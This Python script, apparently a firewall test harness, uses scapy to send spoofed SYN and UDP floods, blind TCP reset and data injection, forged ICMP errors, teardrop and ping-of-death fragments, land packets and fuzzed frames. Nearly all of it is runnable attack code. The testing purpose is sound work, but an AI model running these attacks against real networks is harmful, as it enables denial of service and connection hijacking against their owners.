"""Attacks that are packets: built with scapy, sent through a packet socket of the attacker's own interface.

Run as: python3 -c SCRIPT attack=NAME iface=eth0 me=MAC gateway=MAC key=value ...
Prints the number of frames that were sent. Every attack is a generator of packets; what bounds it is its `count` or
the list it walks. Randomness comes from `seed`, so that a failure can be repeated.
"""

import random
import socket
import sys
import time

from scapy.layers.inet import ICMP, IP, TCP, UDP, fragment
from scapy.layers.inet6 import (
    ICMPv6DestUnreach,
    ICMPv6EchoRequest,
    ICMPv6PacketTooBig,
    ICMPv6ParamProblem,
    ICMPv6TimeExceeded,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting,
)
from scapy.layers.l2 import ARP, Dot1AD, Dot1Q, Ether
from scapy.packet import Raw, fuzz
from scapy.utils import checksum

ARGUMENTS = dict(word.split("=", 1) for word in sys.argv[1:])


def text(name):
    return ARGUMENTS[name]


def number(name, default=None):
    return int(ARGUMENTS.get(name, default))


RANDOM = random.Random(number("seed", 1))
# scapy's own fuzz() draws from the module's generator.
random.seed(number("seed", 1))


def ether(**fields):
    return Ether(src=text("me"), dst=text("gateway"), **fields)


def ip(source, destination, **fields):
    """A network header of the family that the addresses are of."""
    if ":" in destination:
        fields.pop("id", None)
        return IPv6(src=source, dst=destination, **fields)
    return IP(src=source, dst=destination, **fields)


def somewhere(like):
    """A random source of the family: anything in IPv4, global unicast in IPv6."""
    if ":" in like:
        words = [RANDOM.randrange(0x2000, 0x4000)] + [RANDOM.randrange(0x10000) for _ in range(7)]
        return ":".join("%x" % word for word in words)
    return ".".join(str(RANDOM.randrange(256)) for _ in range(4))


def flood(packets, rate):
    """Sends, at most `rate` per second, and says how many."""
    port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    port.bind((text("iface"), 0))
    began, sent = time.monotonic(), 0
    for packet in packets:
        port.send(bytes(packet))
        sent += 1
        ahead = sent / rate - (time.monotonic() - began)
        if ahead > 0:
            time.sleep(ahead)
    print(sent)


# Floods


def syn_flood():
    to, port = text("to"), number("port")
    for _ in range(number("count")):
        segment = TCP(sport=RANDOM.randrange(1, 65536), dport=port, seq=RANDOM.randrange(1 << 32), flags="S")
        yield ether() / ip(somewhere(to), to) / segment


def udp_flood():
    """One-way sessions: every datagram from another address and port of a prefix of the attacker's own."""
    to, port = text("to"), number("port")
    for count in range(number("count")):
        source = text("prefix") + ("%x" if ":" in to else "%d") % (2 + count % 250)
        yield ether() / ip(source, to) / UDP(sport=1024 + count // 250, dport=port) / Raw(b"x" * 16)


def one_port_many_hosts():
    """Every source claims the same port: translated, all but one have to change."""
    to, port = text("to"), number("port")
    for count in range(number("count")):
        source = text("prefix") + ("%x" if ":" in to else "%d") % (2 + count % 250)
        yield ether() / ip(source, to) / UDP(sport=4000 + count // 250, dport=port) / Raw(b"x" * 16)


# Blind attacks on a connection whose tuple is known


def tuple_packet(flags, seq, ack, payload=b""):
    header = TCP(
        sport=number("sport"),
        dport=number("dport"),
        flags=flags,
        seq=seq % (1 << 32),
        ack=ack % (1 << 32),
        window=8192,
    )
    return ether() / ip(text("from"), text("to")) / header / Raw(payload)


def sweep():
    """The sequence space in equal steps, beginning anywhere: what somebody sends who knows nothing."""
    count = number("count")
    start = RANDOM.randrange(1 << 32)
    return [(start + step * ((1 << 32) // count)) % (1 << 32) for step in range(count)]


def near(seq):
    """Around what the receiver expects, but never it."""
    return [seq + by for by in (-100000, -1000, -1, 1, 2, 100, 1000, 30000, 1 << 20, 1 << 30, 1 << 31)]


def blind_reset():
    seq, ack = number("seq"), number("ack")
    for guess in near(seq):
        yield tuple_packet("R", guess, 0)
        yield tuple_packet("RA", guess, ack)
    for guess in sweep():
        # Hitting the one right number is the endpoint's loss (RFC 5961, section 3.2), and not what is tested here.
        if guess != seq:
            yield tuple_packet("R", guess, 0)


def blind_syn():
    seq, ack = number("seq"), number("ack")
    for guess in near(seq) + [seq]:
        yield tuple_packet("S", guess, 0)
        yield tuple_packet("SA", guess, ack)
    for guess in sweep():
        yield tuple_packet("S", guess, 0)


def blind_data():
    """Content the receiver must not take: the right place with an impossible acknowledgement, or a wrong place."""
    seq, ack = number("seq"), number("ack")
    lie = b"not what was sent "
    yield tuple_packet("PA", seq, ack + (1 << 31), lie)
    yield tuple_packet("PA", seq, ack + (1 << 30), lie)
    for by in (-200000, 1 << 28, 1 << 30, 1 << 31):
        yield tuple_packet("PA", seq + by, ack, lie)
    for guess in sweep():
        yield tuple_packet("PA", guess, ack + (1 << 31) + RANDOM.randrange(1 << 20), lie)


def blind_fin():
    seq, ack = number("seq"), number("ack")
    yield tuple_packet("FA", seq, ack + (1 << 31))
    for by in (-200000, 1 << 28, 1 << 30, 1 << 31):
        yield tuple_packet("FA", seq + by, ack)
    for guess in sweep():
        yield tuple_packet("FA", guess, ack + (1 << 31))


# ICMP errors about a connection whose tuple is known


def icmp_errors():
    """Each error about the packet from..to as it left the firewall, and about packets that never were."""
    victim, server = text("from"), text("to")
    sport, dport, seq = number("sport"), number("dport"), number("seq")
    six = ":" in server
    if six:
        errors = [ICMPv6DestUnreach(code=code) for code in range(8)]
        errors += [ICMPv6PacketTooBig(mtu=mtu) for mtu in (0, 68, 1279, 1280, 1400, 65535)]
        errors += [ICMPv6TimeExceeded(code=0), ICMPv6TimeExceeded(code=1), ICMPv6ParamProblem(code=1)]
    else:
        errors = [ICMP(type=3, code=code) for code in range(16)]
        errors += [ICMP(type=3, code=4, nexthopmtu=mtu) for mtu in (0, 68, 296, 552, 1400, 65535)]
        errors += [ICMP(type=11, code=0), ICMP(type=11, code=1), ICMP(type=12, code=0)]
        errors += [ICMP(type=4, code=0), ICMP(type=5, code=1, gw=text("attacker"))]

    def quoted(source, destination, ports, number):
        segment = bytes(TCP(sport=ports[0], dport=ports[1], seq=number % (1 << 32), flags="A"))
        header = ip(source, destination, nh=6) if six else ip(source, destination, proto=6)
        return header / Raw(segment[:20])

    quotes = [
        # As if it had been sent, to be sent next, and never to be sent.
        quoted(victim, server, (sport, dport), seq - 1),
        quoted(victim, server, (sport, dport), seq),
        quoted(victim, server, (sport, dport), seq + (1 << 30)),
        quoted(victim, server, (sport + 1, dport), seq),
        quoted(victim, server, (sport, dport + 1), seq),
        quoted(server, victim, (dport, sport), seq),
        quoted(victim, text("attacker"), (sport, dport), seq),
        Raw(bytes(quoted(victim, server, (sport, dport), seq))[: 44 if six else 24]),
    ]
    for reporter in (text("attacker"), server):
        for error in errors:
            for quote in quotes:
                yield ether() / ip(reporter, victim) / error / quote


# Fragments


def pieces(packet, size, identification):
    """The packet cut, whichever the family."""
    if IPv6 not in packet:
        packet[IP].id = identification
        return fragment(packet, fragsize=size)
    body = bytes(packet[IPv6].payload)
    header, cut = packet[IPv6], []
    for at in range(0, len(body), size):
        more = int(at + size < len(body))
        extension = IPv6ExtHdrFragment(nh=header.payload.overload_fields[IPv6]["nh"], offset=at // 8, m=more, id=identification)
        cut.append(IPv6(src=header.src, dst=header.dst) / extension / Raw(body[at : at + size]))
    return cut


def piece(source, to, offset, more, identification, payload, protocol=17):
    """One fragment, by hand: `offset` in units of eight bytes."""
    if ":" in to:
        extension = IPv6ExtHdrFragment(nh=protocol, offset=offset, m=int(more), id=identification)
        return ether() / IPv6(src=source, dst=to) / extension / Raw(payload)
    header = IP(src=source, dst=to, proto=protocol, frag=offset, flags="MF" if more else 0, id=identification & 0xFFFF)
    return ether() / header / Raw(payload)


def datagram(port, size):
    return bytes(UDP(sport=4000, dport=port, len=size + 8, chksum=0)) + b"y" * size


def bad_fragments():
    """Overlapping, tiny, teardrop, beyond the end of any packet, the header missing, the same one again."""
    source, to, port = text("from"), text("to"), number("port")
    whole = datagram(port, 64)
    for count in range(number("count")):
        i = 0x1000 + count * 16
        # Teardrop: the second lies inside the first.
        yield piece(source, to, 0, True, i, whole[:40])
        yield piece(source, to, 3, False, i, b"z" * 4)
        # The second overwrites the end of the first.
        yield piece(source, to, 0, True, i + 1, whole[:48])
        yield piece(source, to, 4, False, i + 1, whole[32:])
        # The second overwrites the header: what policy was asked about is not what arrives.
        yield piece(source, to, 0, True, i + 2, whole[:24])
        yield piece(source, to, 0, True, i + 2, datagram(23, 40)[:24])
        yield piece(source, to, 3, False, i + 2, whole[24:])
        # Tiny: the ports are split (RFC 1858).
        yield piece(source, to, 0, True, i + 3, bytes(TCP(sport=1, dport=80))[:8], 6)
        yield piece(source, to, 1, False, i + 3, bytes(TCP(sport=1, dport=80))[8:], 6)
        yield piece(source, to, 0, True, i + 4, whole[:8])
        # Ping of death: the last byte lies beyond 65,535.
        yield piece(source, to, 8189, False, i + 5, b"p" * 400, 58 if ":" in to else 1)
        # More to come, but not a multiple of eight.
        yield piece(source, to, 0, True, i + 6, whole[:29])
        # Nothing inside.
        yield piece(source, to, 8, True, i + 7, b"")
        # Twice the same.
        yield piece(source, to, 0, True, i + 8, whole[:40])
        yield piece(source, to, 0, True, i + 8, whole[:40])
        # Two ends.
        yield piece(source, to, 4, False, i + 9, whole[32:48])
        yield piece(source, to, 8, False, i + 9, whole[32:48])


def first_fragments():
    """Beginnings that never end, each of another packet."""
    source, to, port = text("from"), text("to"), number("port")
    for count in range(number("count")):
        yield piece(source, to, 0, True, count, datagram(port, 56))


def later_fragments():
    """Ends that never began."""
    source, to = text("from"), text("to")
    for count in range(number("count")):
        yield piece(source, to, 1 + count % 8000, bool(count & 1), 0x8000 + count, b"w" * 64)


def honest_fragments():
    """Packets cut as a stack cuts them, in order, out of order, and each piece twice."""
    source, to, port = text("from"), text("to"), number("port")
    for count in range(number("count")):
        packet = ip(source, to) / UDP(sport=4000, dport=port) / Raw(b"h" * 3000)
        cut = pieces(packet, 1400, 0x4000 + count)
        for part in (cut, cut[::-1], cut + cut)[count % 3]:
            yield ether() / part


# Frames that no stack sends


def land():
    for target in text("targets").split(","):
        for _ in range(number("count")):
            yield ether() / ip(target, target) / TCP(sport=80, dport=80, flags="S")
            yield ether() / ip(target, target) / UDP(sport=53, dport=53) / Raw(b"x")
            echo = ICMPv6EchoRequest() if ":" in target else ICMP()
            yield ether() / ip(target, target) / echo


def martians():
    """Sources and destinations that are never forwarded (RFC 6890, RFC 1812, RFC 4291)."""
    four = ("0.0.0.0", "127.0.0.1", "169.254.1.1", "224.0.0.1", "239.1.2.3", "255.255.255.255", "240.0.0.1")
    six = ("::", "::1", "fe80::1", "ff02::1", "ff0e::1", "::ffff:10.77.1.2")
    for target, martian in [(text("to4"), four), (text("to6"), six)]:
        sender = text("from4") if target == text("to4") else text("from6")
        for address in martian:
            for segment in (TCP(sport=5, dport=80, flags="S"), UDP(sport=5, dport=53) / Raw(b"x")):
                yield ether() / ip(address, target) / segment
                yield ether() / ip(sender, address) / segment


def source_routes():
    from scapy.layers.inet import IPOption

    four, six = text("to4"), text("to6")
    hop = socket.inet_aton(text("from4"))
    options = [bytes([kind, 7, 4]) + hop + b"\0" for kind in (131, 137)]
    options += [b"\x01\x01" + bytes([131, 7, 4]) + hop + b"\0\0\0"[:2], bytes([131, 3, 4, 0]), bytes([137, 0, 0, 0])]
    for option in options:
        header = IP(src=text("from4"), dst=four, options=[IPOption(option)])
        yield ether() / header / TCP(sport=5, dport=80, flags="S")
    for kind in (0, 2, 3, 4):
        routing = IPv6ExtHdrRouting(type=kind, addresses=[six])
        yield ether() / IPv6(src=text("from6"), dst=six) / routing / TCP(sport=5, dport=80, flags="S")


def vlans():
    """Tags on an interface that carries none: single, double, priority only, any inner type."""
    inner = IP(src=text("from4"), dst=text("to4")) / TCP(sport=5, dport=80, flags="S")
    for tag in (0, 1, 100, 4095):
        yield ether() / Dot1Q(vlan=tag) / inner
        yield ether() / Dot1AD(vlan=tag) / Dot1Q(vlan=7) / inner
        yield ether() / Dot1Q(vlan=tag) / Dot1Q(vlan=tag) / inner
        yield ether() / Dot1Q(vlan=tag) / ARP(pdst=text("to4"))
        yield ether() / Dot1Q(vlan=tag) / IPv6(src=text("from6"), dst=text("to6")) / UDP(sport=5, dport=53)


def truncated():
    """Every header cut at every byte, with lengths that still promise all of it."""
    v4 = dict(src=text("from4"), dst=text("to4"))
    v6 = dict(src=text("from6"), dst=text("to6"))
    quoted = bytes(IP(src=text("to4"), dst=text("from4")) / UDP(sport=53, dport=5))
    whole = [
        IP(**v4) / TCP(sport=5, dport=80, flags="S", options=[("MSS", 1460), ("WScale", 7)]),
        IP(**v4) / UDP(sport=5, dport=53) / Raw(b"abcd"),
        IP(**v4) / ICMP() / Raw(b"abcd"),
        IP(**v4) / ICMP(type=3, code=3) / Raw(quoted),
        IPv6(**v6) / TCP(sport=5, dport=80, flags="S", options=[("MSS", 1460)]),
        IPv6(**v6) / UDP(sport=5, dport=53) / Raw(b"abcd"),
        IPv6(**v6) / IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt() / UDP(sport=5, dport=53),
        IPv6(**v6) / ICMPv6EchoRequest(data=b"abcd"),
        IPv6(**v6) / ICMPv6DestUnreach(code=4) / Raw(bytes(IPv6(src=v6["dst"], dst=v6["src"]) / UDP(sport=53, dport=5))),
    ]
    for packet in whole:
        frame = bytes(ether() / packet)
        for length in range(14, len(frame)):
            yield frame[:length]
        if frame[12:14] == b"\x08\x00":
            # The same cuts, told honestly: the total length and header checksum fit what is there.
            for length in range(34, len(frame)):
                cut = bytearray(frame[:length])
                cut[16:18] = (length - 14).to_bytes(2, "big")
                cut[24:26] = b"\0\0"
                cut[24:26] = checksum(bytes(cut[14:34])).to_bytes(2, "big")
                yield bytes(cut)


def garbage():
    """Random bytes under many Ethernet types, and scapy's idea of hostile headers."""
    types = (0x0800, 0x86DD, 0x0806, 0x8100, 0x88A8, 0x8847, 0x88CC, 0x9000, 0x0000, 0x05DC, 0xFFFF)
    head = bytes(ether())[:12]
    for _ in range(number("count")):
        # Six bytes behind a tag are what the kernel itself needs to look at it: below, it drops the frame unseen.
        length = RANDOM.choice((6, 20, 40, 60, 200, 1400))
        body = bytes(RANDOM.randrange(256) for _ in range(length))
        yield head + RANDOM.choice(types).to_bytes(2, "big") + body
        first = bytes([RANDOM.choice((0x45, 0x46, 0x4F, 0x44, 0x65))])
        yield head + b"\x08\x00" + first + body
        yield head + b"\x86\xdd" + bytes([0x60 | body[0] & 15]) + body
    four, six = IP(src=text("from4"), dst=text("to4")), IPv6(src=text("from6"), dst=text("to6"))
    for _ in range(number("count") // 8):
        for template in (
            four / fuzz(TCP()),
            four / fuzz(UDP()),
            four / fuzz(ICMP()) / Raw(b"x" * 32),
            six / fuzz(TCP()),
            six / fuzz(UDP()),
            six / fuzz(IPv6ExtHdrHopByHop()) / UDP(sport=1, dport=53),
            fuzz(IP(src=text("from4"), dst=text("to4"), options=[])) / TCP(flags="S", dport=80),
        ):
            try:
                frame = bytes(ether() / template)
            except Exception:
                # fuzz() sometimes draws what scapy itself cannot build; the next draw is another.
                continue
            # What does not fit the wire is not sent.
            yield frame[:1514]


ATTACKS = {
    function.__name__: function
    for function in (
        syn_flood,
        udp_flood,
        one_port_many_hosts,
        blind_reset,
        blind_syn,
        blind_data,
        blind_fin,
        icmp_errors,
        bad_fragments,
        first_fragments,
        later_fragments,
        honest_fragments,
        land,
        martians,
        source_routes,
        vlans,
        truncated,
        garbage,
    )
}

flood(ATTACKS[text("attack")](), number("rate", 5000))
